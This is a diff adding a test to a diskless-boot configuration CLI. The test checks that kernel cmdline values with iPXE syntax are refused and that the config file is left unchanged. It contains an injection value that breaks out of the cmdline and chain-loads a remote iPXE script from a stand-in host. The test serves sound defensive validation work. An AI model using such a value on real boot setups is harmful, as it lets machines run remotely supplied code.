@@ -58,3 +58,24 @@ test('edits that would break the config are refused and change nothing', (t) => 
   assert.equal(cli('node', 'add', '--mac', '52:54:00:00:00:09').code, 1, 'no --config');
   assert.equal(readFileSync(file, 'utf8'), CONFIG);
 });
+
+test('cmdline with iPXE syntax is refused by node and profile add/set, naming the key and the character', (t) => {
+  const dir = mkdtempSync(join(tmpdir(), 'dl-cli-'));
+  t.after(() => rmSync(dir, { recursive: true, force: true }));
+  const file = join(dir, 'diskless.yaml');
+  writeFileSync(file, CONFIG);
+  const payload = 'quiet ; chain http://elsewhere/x.ipxe ; #';
+  for (const [args, key] of [
+    [['node', 'set', '52:54:00:00:00:01', '--cmdline', payload], 'nodes[0].cmdline'],
+    [['node', 'add', '--mac', '52:54:00:00:00:02', '--cmdline', payload], 'nodes[1].cmdline'],
+    [['profile', 'set', 'default', '--cmdline', payload], 'profiles.default.cmdline'],
+    [['profile', 'add', 'debug', '--inherits', 'default', '--cmdline', 'rd.debug ${x}'], 'profiles.debug.cmdline'],
+  ] as Array<[string[], string]>) {
+    const r = cli(...args, '--config', file);
+    assert.equal(r.code, 1, args.join(' '));
+    assert.ok(r.err.includes(`${key}: may not contain `), r.err);
+    assert.match(r.err, /"[;$]" \(U\+00(3B|24), character \d+\)/);
+  }
+  assert.equal(readFileSync(file, 'utf8'), CONFIG);
+});
+
